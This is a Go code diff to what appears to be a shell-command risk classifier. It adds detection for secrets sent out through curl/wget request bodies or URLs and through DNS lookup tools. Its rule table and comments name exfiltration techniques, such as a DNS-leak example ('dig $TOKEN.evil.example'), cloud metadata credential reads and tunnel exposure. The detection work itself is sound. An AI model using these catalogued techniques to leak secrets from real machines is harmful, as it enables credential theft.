@@ -455,7 +455,7 @@ func riskCommands() map[string]*cmdSpec {
 		"killall5": {class: ClassDestructive, why: "signals every process"},
 
 		// Network: a secret read in the same command may leave the machine.
-		"curl": fetchSpec, "wget": fetchSpec, "http": httpieSpec, "https": httpieSpec, "xh": httpieSpec, "xhs": httpieSpec, "scp": {effect: EffectNetwork}, "sftp": {effect: EffectNetwork},
+		"curl": curlFetch(), "wget": wgetFetch(), "http": httpieSpec, "https": httpieSpec, "xh": httpieSpec, "xhs": httpieSpec, "scp": {effect: EffectNetwork}, "sftp": {effect: EffectNetwork},
 		"rsync": {effect: EffectNetwork, long: []string{"delete", "delete-before", "delete-during", "delete-delay", "delete-after", "delete-excluded", "remove-source-files", "archive", "verbose", "recursive", "compress", "dry-run", "exclude=", "include=", "rsh=", "progress", "checksum", "update"},
 			opts: []optEffect{{names: []string{"--delete", "--delete-before", "--delete-during", "--delete-delay", "--delete-after", "--delete-excluded", "--remove-source-files"}, class: ClassDestructive, why: "deletes files that are not in the source"},
 				{match: wholeTree, operand: true, class: ClassCredential, why: "copies the whole home directory, credentials included"},
@@ -479,6 +479,7 @@ func riskCommands() map[string]*cmdSpec {
 		"twistd":      {opts: []optEffect{servesDir("--path")}},
 		"http-server": servesOperand("paCKcdeSt"), "serve": servesOperand("lcp"), "live-server": servesOperand(""),
 		"miniserve": servesOperand("pigtaiuc"), "darkhttpd": servesOperand(""),
+		"dig": dnsLookup, "nslookup": dnsLookup, "host": dnsLookup, "drill": dnsLookup, "ping": dnsLookup, "ping6": dnsLookup, "traceroute": dnsLookup,
 		"ngrok":       {effect: EffectNetwork, class: ClassExfiltrate, why: "exposes a local port to the internet", unless: []string{"version", "help", "--help", "-h", "config"}},
 		"cloudflared": {effect: EffectNetwork, subs: map[string]*cmdSpec{"tunnel": {class: ClassExfiltrate, why: "exposes a local port to the internet", unless: []string{"list", "info", "--help"}}}},
 		"rclone": {effect: EffectNetwork, opts: []optEffect{{names: []string{"purge", "delete", "deletefile", "rmdir", "rmdirs", "sync", "cleanup"}, operand: true, class: ClassDestructive, why: "deletes remote files"},
@@ -957,10 +958,11 @@ var (
 	}, operand: true, effect: EffectNetwork, class: ClassExfiltrate, why: "sends a credential file to the network"}
 	// httpieSpec is httpie and xh: request items name files to send
 	// ("@file", "field@file", "field=@file", "field:=@file").
-	httpieSpec = &cmdSpec{effect: EffectNetwork, opts: []optEffect{{match: metadataURL, operand: true, class: ClassCredential, why: "asks the cloud metadata service, which hands out the machine's credentials"}, sendsCredential}}
-	// fetchSpec is a URL fetcher: the cloud metadata service hands out
-	// the machine's credentials to whoever asks.
-	fetchSpec = &cmdSpec{effect: EffectNetwork, opts: []optEffect{{match: metadataURL, operand: true, class: ClassCredential, why: "asks the cloud metadata service, which hands out the machine's credentials"}}}
+	httpieSpec = &cmdSpec{effect: EffectNetwork, opts: []optEffect{{match: metadataURL, operand: true, class: ClassCredential, why: "asks the cloud metadata service, which hands out the machine's credentials"}, sendsCredential,
+		{match: httpieSecret, operand: true, class: ClassExfiltrate, why: "sends a secret from the environment in the URL or the request body"}}}
+	// dnsLookup resolves or pings a name: a secret in it leaves the
+	// machine in the DNS query ("dig $TOKEN.evil.example").
+	dnsLookup = &cmdSpec{effect: EffectNetwork, opts: []optEffect{{match: secretRef, operand: true, class: ClassExfiltrate, why: "puts a secret from the environment in a name it looks up, which leaves the machine in the DNS query"}}}
 )
 
 // k8sSecret reports whether a kubectl get operand names secrets.
@@ -994,4 +996,41 @@ func servesDir(names ...string) optEffect {
 // shortVal lists its short options that take a value ("-p 8080").
 func servesOperand(shortVal string) *cmdSpec {
 	return &cmdSpec{effect: EffectNetwork, shortVal: shortVal, opts: []optEffect{servesOperandEffect}}
+}
+
+// secretInBody is a fetcher's secret sent as data: in the request body
+// or the query it builds. A secret in a header (-H) or in the login
+// option (-u) is how an API is called and stays open.
+var secretInBody = optEffect{value: secretRef, class: ClassExfiltrate, why: "sends a secret from the environment in the request body"}
+
+// fetchURL is a fetcher's URL operand: the metadata service, or a secret
+// from the environment in the host, path or query.
+var fetchURL = []optEffect{
+	{match: metadataURL, operand: true, class: ClassCredential, why: "asks the cloud metadata service, which hands out the machine's credentials"},
+	{match: secretInURL, operand: true, class: ClassExfiltrate, why: "sends a secret from the environment in the URL"},
+}
+
+// curlFetch and wgetFetch are the fetchers' entries: their options that
+// take a value come from the reader table (curlSpec, wgetSpec), so the
+// URL operands are found as curl and wget find them.
+func curlFetch() *cmdSpec {
+	body := secretInBody
+	body.names = []string{"-d", "--data", "--data-raw", "--data-binary", "--data-ascii", "--data-urlencode", "-F", "--form", "--form-string", "--json", "--url-query"}
+	url := optEffect{names: []string{"--url"}, value: secretInURL, class: ClassExfiltrate, why: "sends a secret from the environment in the URL"}
+	return &cmdSpec{effect: EffectNetwork, shortVal: curlSpec.shortVal, long: withValue(curlSpec.longVal), opts: append(append([]optEffect(nil), fetchURL...), body, url)}
+}
+
+func wgetFetch() *cmdSpec {
+	body := secretInBody
+	body.names = []string{"--post-data", "--body-data"}
+	return &cmdSpec{effect: EffectNetwork, shortVal: wgetSpec.shortVal, long: withValue(wgetSpec.longVal), opts: append(append([]optEffect(nil), fetchURL...), body)}
+}
+
+// withValue marks long option names as taking a value ("data" → "data=").
+func withValue(names []string) []string {
+	out := make([]string, len(names))
+	for i, n := range names {
+		out[i] = n + "="
+	}
+	return out
 }
